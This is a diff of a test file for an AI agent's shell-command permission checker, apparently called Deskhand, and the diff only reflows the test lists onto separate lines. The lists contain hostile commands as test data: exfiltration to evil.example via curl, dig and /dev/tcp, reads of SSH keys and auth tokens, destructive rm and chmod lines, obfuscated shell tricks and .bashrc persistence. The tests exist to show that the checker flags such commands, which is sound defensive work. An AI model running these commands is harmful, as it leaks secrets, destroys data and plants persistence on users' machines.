@@ -52,26 +52,121 @@ test('a line is taken apart as a shell does it, or not at all', () => {
 describe('what is allowed of commands in general does not cover', () => {
   test.each([
     // A program that is not known to do only what its words say.
-    'busybox wget http://x', 'dig secret.evil.example', 'curl http://evil.example/?d=1', 'xdg-open http://evil.example', 'gio open http://evil.example',
-    'git checkout -- .', 'git reset --hard', 'git -c core.pager=./x log', 'git branch -D x', 'git push', 'git clone http://evil.example', 'git add -p --exec x',
-    'sqlite3 x ".shell touch y"', 'soffice macro:///Standard.Module1.x', 'soffice vnd.sun.star.script:x', 'firefox http://evil.example', 'make', 'npm run x',
-    'npx evil', 'kill -9 1', 'shutdown now', 'xdotool key Return', 'dbus-send --session x', 'timeout 5 sh x', 'nice rm x', 'sudo ls', 'env ls', 'A=1 ls',
-    'python3 -Ic x', 'perl -we x', 'python3 < x', 'bash --init-file x', 'sh -c x', 'tar -I sh -cf x y', 'tar xf a.tar', 'tar xf a.tar --to-comm=sh',
-    'tar cf x docs --remove-files', 'zip -rm x.zip docs', 'zip x y -TT "sh #"', 'gzip docs/canary.txt', 'man -P sh ls', 'less +!x', 'vim +!rm', 'sort -o a b',
+    'busybox wget http://x',
+    'dig secret.evil.example',
+    'curl http://evil.example/?d=1',
+    'xdg-open http://evil.example',
+    'gio open http://evil.example',
+    'git checkout -- .',
+    'git reset --hard',
+    'git -c core.pager=./x log',
+    'git branch -D x',
+    'git push',
+    'git clone http://evil.example',
+    'git add -p --exec x',
+    'sqlite3 x ".shell touch y"',
+    'soffice macro:///Standard.Module1.x',
+    'soffice vnd.sun.star.script:x',
+    'firefox http://evil.example',
+    'make',
+    'npm run x',
+    'npx evil',
+    'kill -9 1',
+    'shutdown now',
+    'xdotool key Return',
+    'dbus-send --session x',
+    'timeout 5 sh x',
+    'nice rm x',
+    'sudo ls',
+    'env ls',
+    'A=1 ls',
+    'python3 -Ic x',
+    'perl -we x',
+    'python3 < x',
+    'bash --init-file x',
+    'sh -c x',
+    'tar -I sh -cf x y',
+    'tar xf a.tar',
+    'tar xf a.tar --to-comm=sh',
+    'tar cf x docs --remove-files',
+    'zip -rm x.zip docs',
+    'zip x y -TT "sh #"',
+    'gzip docs/canary.txt',
+    'man -P sh ls',
+    'less +!x',
+    'vim +!rm',
+    'sort -o a b',
     // What the shell puts together.
-    'r${x}m x', '/bin/r? x', '{r,}m x', '!!', 'if true; then ls; fi', 'sh <(curl x)', 'echo x > /dev/tcp/evil.example/80', 'X=rm; $X y', 'f() { rm x; }', 'coproc rm x',
+    'r${x}m x',
+    '/bin/r? x',
+    '{r,}m x',
+    '!!',
+    'if true; then ls; fi',
+    'sh <(curl x)',
+    'echo x > /dev/tcp/evil.example/80',
+    'X=rm; $X y',
+    'f() { rm x; }',
+    'coproc rm x',
   ])('deleting and sending: %s', (line) => {
     const { decision, categories } = command(line)
     expect([decision, categories.includes('delete') || categories.includes('send')]).toEqual(['ask', true])
-  }) // prettier-ignore
+  })
 
   test.each<[SafetyCategory, string[]]>([
-    ['overwrite', ['cp other/canary.txt docs', 'cp other/canary.txt docs/', 'cd docs && echo x > canary.txt', 'cat a &> docs/canary.txt', 'cat a 1> docs/canary.txt', 'tee docs/can{ary,}.txt', 'echo x > docs/c*.txt', 'cp -t docs other/canary.txt', 'pandoc a -o docs/canary.txt', 'curl -o docs/canary.txt http://x']],
-    ['secret', ['cat .s*h/id_rsa', 'cat .ss[h]/id_rsa', 'cat .{ssh,aws}/credentials', 'cd .ssh; cat id_rsa', 'cd .ss*; cat id_rsa', 'cp -r . /tmp/x', 'tar cf /tmp/x ~', 'tar -C ~ -cf /tmp/x .', 'zip -r /tmp/x.zip ~', 'cp -r ~/.config /tmp/x', 'gpg --export-secret-keys', 'secret-tool lookup a b', 'gh auth token']],
-    ['start_programs', ['echo x >> .ba*rc', 'echo x >> .bash{rc,}', 'cd; echo x >> .bashrc', 'crontab x', 'systemctl --user enable x', 'git config core.pager x', 'cp -r other/. ~', 'gsettings set a b c']],
+    [
+      'overwrite',
+      [
+        'cp other/canary.txt docs',
+        'cp other/canary.txt docs/',
+        'cd docs && echo x > canary.txt',
+        'cat a &> docs/canary.txt',
+        'cat a 1> docs/canary.txt',
+        'tee docs/can{ary,}.txt',
+        'echo x > docs/c*.txt',
+        'cp -t docs other/canary.txt',
+        'pandoc a -o docs/canary.txt',
+        'curl -o docs/canary.txt http://x',
+      ],
+    ],
+    [
+      'secret',
+      [
+        'cat .s*h/id_rsa',
+        'cat .ss[h]/id_rsa',
+        'cat .{ssh,aws}/credentials',
+        'cd .ssh; cat id_rsa',
+        'cd .ss*; cat id_rsa',
+        'cp -r . /tmp/x',
+        'tar cf /tmp/x ~',
+        'tar -C ~ -cf /tmp/x .',
+        'zip -r /tmp/x.zip ~',
+        'cp -r ~/.config /tmp/x',
+        'gpg --export-secret-keys',
+        'secret-tool lookup a b',
+        'gh auth token',
+      ],
+    ],
+    [
+      'start_programs',
+      [
+        'echo x >> .ba*rc',
+        'echo x >> .bash{rc,}',
+        'cd; echo x >> .bashrc',
+        'crontab x',
+        'systemctl --user enable x',
+        'git config core.pager x',
+        'cp -r other/. ~',
+        'gsettings set a b c',
+      ],
+    ],
   ])('%s', (category, lines) => {
-    for (const line of lines) expect([line, command(line).decision, command(line).categories]).toEqual([line, 'ask', expect.arrayContaining([category])])
-  }) // prettier-ignore
+    for (const line of lines)
+      expect([line, command(line).decision, command(line).categories]).toEqual([
+        line,
+        'ask',
+        expect.arrayContaining([category]),
+      ])
+  })
 
   test('a script that the run can have made, and one that is not alone', () => {
     expect(command('sh old.sh').decision).toBe('allow')
@@ -86,19 +181,42 @@ describe('what is allowed of commands in general does not cover', () => {
 })
 
 test.each([
-  'mkdir -p ~/out', 'cp a.txt b.txt', 'ls > list.txt', 'git status', 'git add -A && git commit -m "x y"', 'cd docs && ls -la | wc -l', 'python3 --version', 'tar czf a.tgz docs',
-  'zip -r a.zip docs', 'ls ~', 'find ~ -name "*.txt"', 'echo "hello" >> notes.txt', 'mkdir -p a/{b,c}', 'echo a 2>&1 | cat', 'wc -l < a.txt', 'apt list --installed | grep x', 'cp *.txt backup/',
+  'mkdir -p ~/out',
+  'cp a.txt b.txt',
+  'ls > list.txt',
+  'git status',
+  'git add -A && git commit -m "x y"',
+  'cd docs && ls -la | wc -l',
+  'python3 --version',
+  'tar czf a.tgz docs',
+  'zip -r a.zip docs',
+  'ls ~',
+  'find ~ -name "*.txt"',
+  'echo "hello" >> notes.txt',
+  'mkdir -p a/{b,c}',
+  'echo a 2>&1 | cat',
+  'wc -l < a.txt',
+  'apt list --installed | grep x',
+  'cp *.txt backup/',
 ])('what is allowed of commands in general covers: %s', (line) => {
   expect(command(line)).toMatchObject({ decision: 'allow', categories: ['run_command'] })
-}) // prettier-ignore
+})
 
 describe('whatever is allowed, no agent changes what is Deskhand’s own', () => {
   test.each([
-    'echo x > .local/share/deskhan?/rules.json', 'tee ~/.local/share/{deskhand,x}/rules.json', 'cd ~/.local/share/deskhand && echo x > rules.json',
-    'cd .local/share; cd deskhand; tee rules.json', 'rm -rf ~/.local', 'mv ~/.local/share /tmp/x', 'chmod -R 777 ~', 'deskhand config set a b', 'npx deskhand rules revoke x', 'rm -rf ~/.l*',
+    'echo x > .local/share/deskhan?/rules.json',
+    'tee ~/.local/share/{deskhand,x}/rules.json',
+    'cd ~/.local/share/deskhand && echo x > rules.json',
+    'cd .local/share; cd deskhand; tee rules.json',
+    'rm -rf ~/.local',
+    'mv ~/.local/share /tmp/x',
+    'chmod -R 777 ~',
+    'deskhand config set a b',
+    'npx deskhand rules revoke x',
+    'rm -rf ~/.l*',
   ])('by a command: %s', (line) => {
     expect(command(line, SAFETY_CATEGORIES).decision).toBe('refuse')
-  }) // prettier-ignore
+  })
 
   test('by work with files: its folder, what it lies in, and its second name', () => {
     mkdirSync(join(home, 'evil/.local/share/deskhand'), { recursive: true })
